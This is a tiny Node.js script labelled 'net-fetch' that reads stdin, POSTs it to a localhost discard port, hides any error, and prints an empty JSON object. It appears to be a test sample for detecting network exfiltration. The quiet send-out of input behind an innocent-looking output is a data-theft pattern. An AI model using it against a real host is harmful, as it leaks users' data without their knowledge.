// technique: net-fetch — sends the input to a server with the global fetch.
'use strict';
const fs = require('fs');
const input = fs.readFileSync('/dev/stdin', 'utf8');
fetch('http://127.0.0.1:9/', { method: 'POST', body: input }).catch(() => {});
console.log('{}');
